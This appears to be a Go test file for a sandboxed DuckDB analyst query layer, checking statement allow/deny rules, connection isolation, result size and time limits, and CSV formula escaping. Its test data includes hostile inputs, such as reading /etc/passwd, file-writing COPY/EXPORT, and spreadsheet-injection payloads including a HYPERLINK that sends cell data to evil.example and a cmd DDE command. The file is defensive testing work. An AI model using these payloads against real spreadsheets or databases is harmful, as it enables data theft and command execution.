package warehouse

import (
	"bytes"
	"context"
	"errors"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// analystWarehouse builds a small warehouse file and opens it for analysts.
func analystWarehouse(t testing.TB, timeout time.Duration) (*Analyst, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "w.duckdb")
	db, err := Open(context.Background(), path, Settings{Threads: 1})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`CREATE TABLE deal_discounts AS
		SELECT i AS deal_id, 'acct-' || i AS account, i * 0.5 AS discount_pct FROM range(1, 251) t(i)`); err != nil {
		t.Fatal(err)
	}
	db.Close()
	a, err := OpenAnalyst(context.Background(), path, Settings{Threads: 1}, timeout)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close() })
	return a, path
}

func TestCheck(t *testing.T) {
	a, _ := analystWarehouse(t, 0)
	tests := []struct {
		q    string
		kind string // "" = refused or an error
		msg  string // part of the error
	}{
		{"SELECT 1", KindSelect, ""},
		{"  -- a comment\n/* another */ select * from deal_discounts;", KindSelect, ""},
		{"(SELECT 1) UNION ALL (SELECT 2)", KindSelect, ""},
		{"WITH x AS (SELECT 1 AS a) SELECT a FROM x", KindSelect, ""},
		{"FROM deal_discounts", KindSelect, ""},
		{"VALUES (1), (2)", KindSelect, ""},
		{"DESCRIBE deal_discounts", KindSelect, ""},
		{"SHOW TABLES", KindSelect, ""},
		{"SUMMARIZE deal_discounts", KindSelect, ""},
		{"SELECT * FROM range(3)", KindSelect, ""},
		{"SELECT * FROM duckdb_tables()", KindSelect, ""},
		{"EXPLAIN SELECT 1", KindExplain, ""},
		{"explain analyze select count(*) from deal_discounts", KindExplain, ""},
		{"CALL enable_logging(level='trace', storage='file', storage_path='/tmp')", "", "CALL statement"},
		{"SELECT * FROM enable_logging(level='trace')", "", "table function enable_logging"},
		{"SELECT * FROM (SELECT * FROM main.enable_logging())", "", "enable_logging"},
		{"PRAGMA enable_profiling", "", "PRAGMA statement"},
		{"SET threads = 1", "", "SET statement"},
		{"CREATE TEMP TABLE deal_discounts AS SELECT 'SPOOFED' AS x", "", "CREATE statement"},
		{"ATTACH '/tmp/x.duckdb'", "", "ATTACH statement"},
		{"COPY deal_discounts TO '/tmp/x.csv'", "", "COPY statement"},
		{"EXPORT DATABASE '/tmp/x'", "", "EXPORT statement"},
		{"INSTALL httpfs", "", "INSTALL statement"},
		{"LOAD httpfs", "", "LOAD statement"},
		{"CHECKPOINT", "", "CHECKPOINT statement"},
		{"BEGIN TRANSACTION", "", "BEGIN statement"},
		{"SELECT 1; CALL enable_logging()", "", "one statement at a time"},
		{"SELECT 1; SELECT 2", "", "one statement at a time"},
		{"SELECT * FROM read_csv('/etc/passwd')", "", "read_csv"},
		{"SELECT * FROM query('SELECT 1')", "", "table function query"},
		{"SELECT * FROM glob('/*')", "", "glob"},
		{"SELECT * FROM duckdb_settings()", "", "duckdb_settings"},
		{"EXPLAIN CALL enable_logging()", "", "CALL"},
		{"EXPLAIN SELECT * FROM enable_logging()", "", "enable_logging"},
		{"SELEC 1", "", "syntax error"},
		{"", "", ""},
	}
	for _, tt := range tests {
		kind, err := Check(context.Background(), a.db, tt.q)
		if kind != tt.kind {
			t.Errorf("Check(%q) = %q (%v), want %q", tt.q, kind, err, tt.kind)
			continue
		}
		if tt.kind == "" && err == nil {
			t.Errorf("Check(%q): no error", tt.q)
		}
		if tt.msg != "" && (err == nil || !strings.Contains(err.Error(), tt.msg)) {
			t.Errorf("Check(%q) error = %v, want it to mention %q", tt.q, err, tt.msg)
		}
	}
}

// TestAnalystSealed: what one statement leaves behind reaches nobody: each
// runs on a connection of its own, closed afterwards.
func TestAnalystSealed(t *testing.T) {
	a, path := analystWarehouse(t, 0)
	ctx := context.Background()
	for _, q := range []string{
		"CREATE TEMP TABLE deal_discounts AS SELECT 'SPOOFED' AS account",
		"CALL enable_logging(level='trace', storage='file', storage_path='/tmp')",
		"PRAGMA enable_profiling",
		"SET VARIABLE x = 1",
	} {
		var re *RefusedError
		if _, err := a.Query(ctx, q, Window{Rows: 10}); !errors.As(err, &re) {
			t.Errorf("%s: err = %v, want a refusal", q, err)
		}
	}
	// The dashboard's own pool on the same file still sees the real table.
	dash, err := Sandbox(ctx, path, Settings{Threads: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer dash.Close()
	r, err := Query(ctx, dash, "SELECT account FROM deal_discounts ORDER BY deal_id LIMIT 1", 0)
	if err != nil || r.Values[0][0] != "acct-1" {
		t.Fatalf("dashboard read %v (%v), want acct-1", r, err)
	}
	// Connections are never reused: nothing is idle after a statement.
	if _, err := a.Query(ctx, "SELECT 1", Window{}); err != nil {
		t.Fatal(err)
	}
	if idle := a.db.Stats().Idle; idle != 0 {
		t.Errorf("%d idle analyst connections, want 0", idle)
	}
}

// TestAnalystErrorText keeps DuckDB's hints and the caret under the
// culprit: they say how to fix the statement.
func TestAnalystErrorText(t *testing.T) {
	a, _ := analystWarehouse(t, 0)
	_, err := a.Query(context.Background(), "SELECT acount\nFROM deal_discounts", Window{Rows: 10})
	if err == nil {
		t.Fatal("no error for an unknown column")
	}
	for _, want := range []string{`Referenced column "acount" not found`, "Candidate bindings: ", "account", "LINE 1: SELECT acount", "^"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error lacks %q:\n%s", want, err)
		}
	}
}

func TestAnalystWindow(t *testing.T) {
	a, _ := analystWarehouse(t, 0)
	ctx := context.Background()
	tests := []struct {
		q         string
		w         Window
		rows      int
		first     any
		truncated bool
	}{
		{"SELECT deal_id FROM deal_discounts ORDER BY deal_id", Window{Rows: 100}, 100, int64(1), true},
		{"SELECT deal_id FROM deal_discounts ORDER BY deal_id", Window{Rows: 100, Offset: 200}, 50, int64(201), false},
		// A leading parenthesis or comment is paged like any query.
		{"(SELECT deal_id FROM deal_discounts ORDER BY deal_id)", Window{Rows: 100, Offset: 100}, 100, int64(101), true},
		{"-- all deals\nSELECT deal_id FROM deal_discounts ORDER BY deal_id;", Window{Rows: 100}, 100, int64(1), true},
		{"DESCRIBE deal_discounts", Window{Rows: 100}, 3, "deal_id", false},
		{"EXPLAIN SELECT 1", Window{Rows: 100}, 1, "physical_plan", false},
	}
	for _, tt := range tests {
		r, err := a.Query(ctx, tt.q, tt.w)
		if err != nil {
			t.Errorf("%q: %v", tt.q, err)
			continue
		}
		if len(r.Values) != tt.rows || r.Values[0][0] != tt.first || r.Truncated != tt.truncated {
			t.Errorf("%q %+v: %d rows, first %v, truncated %v; want %d, %v, %v", tt.q, tt.w, len(r.Values), r.Values[0][0], r.Truncated, tt.rows, tt.first, tt.truncated)
		}
	}
}

// TestAnalystBounded: a huge value or a large result stops with a sentence
// and never reaches Go's memory whole.
func TestAnalystBounded(t *testing.T) {
	a, _ := analystWarehouse(t, 0)
	ctx := context.Background()
	var tl *TooLargeError
	tests := []struct {
		q     string
		bytes int64
	}{
		{"SELECT repeat('x', 50000000) AS big", 1 << 20},                        // one 50 MB value
		{"(SELECT repeat('x', 50000000) AS big)", 1 << 20},                      // behind a parenthesis
		{"SELECT repeat('x', 1000) || i AS s FROM range(100000) t(i)", 1 << 20}, // many small ones
		{"SELECT [repeat('x', 1000)] AS l FROM range(100000) t(i)", 1 << 20},    // nested
	}
	for _, tt := range tests {
		_, err := a.Query(ctx, tt.q, Window{Rows: 100000, Bytes: tt.bytes})
		if !errors.As(err, &tl) && (err == nil || !strings.Contains(err.Error(), "result larger than 1 MB: narrow the query or export it")) {
			t.Errorf("%s: err = %v, want result larger than 1 MB", tt.q, err)
		}
	}
	var buf bytes.Buffer
	if _, err := a.WriteParquet(ctx, "SELECT md5(i::VARCHAR) || md5((i + 1)::VARCHAR) || md5((i + 2)::VARCHAR) AS s FROM range(200000) t(i)", &buf, 0, 1<<20); err == nil || !strings.Contains(err.Error(), "result larger than") {
		t.Errorf("parquet export: err = %v, want result larger than", err)
	}
	if buf.Len() > 1<<20 {
		t.Errorf("parquet export wrote %d bytes past a 1 MB budget", buf.Len())
	}
	buf.Reset()
	if n, err := a.WriteParquet(ctx, "SELECT * FROM deal_discounts", &buf, 0, 1<<20); err != nil || n != 250 {
		t.Errorf("parquet export of 250 rows: %d, %v", n, err)
	}
	if _, err := a.WriteParquet(ctx, "CREATE TEMP TABLE x AS SELECT 1", &buf, 0, 0); err == nil {
		t.Error("parquet export ran a CREATE")
	}
}

func TestAnalystTimeout(t *testing.T) {
	a, _ := analystWarehouse(t, 200*time.Millisecond)
	_, err := a.Query(context.Background(), "SELECT count(*) FROM range(100000000000) t(i) WHERE i % 7 = 3", Window{Rows: 10})
	var te *TimeoutError
	if !errors.As(err, &te) || !strings.Contains(err.Error(), "ran longer than the 200ms limit") {
		t.Fatalf("err = %v, want a timeout sentence", err)
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1+1", "'+1+1"},
		{"-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"-12.5", "-12.5"},
		{"-$1,234", "-$1,234"},
		{"-4.5%", "-4.5%"},
		{"Acme = good", "Acme = good"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	r := &Rows{Columns: []string{"name", "n"}, Types: []string{"VARCHAR", "INTEGER"}, Values: [][]any{{"=1+1", int64(-3)}}}
	var b bytes.Buffer
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	if got := b.String(); got != "name,n\n'=1+1,-3\n" {
		t.Errorf("CSV = %q", got)
	}
}
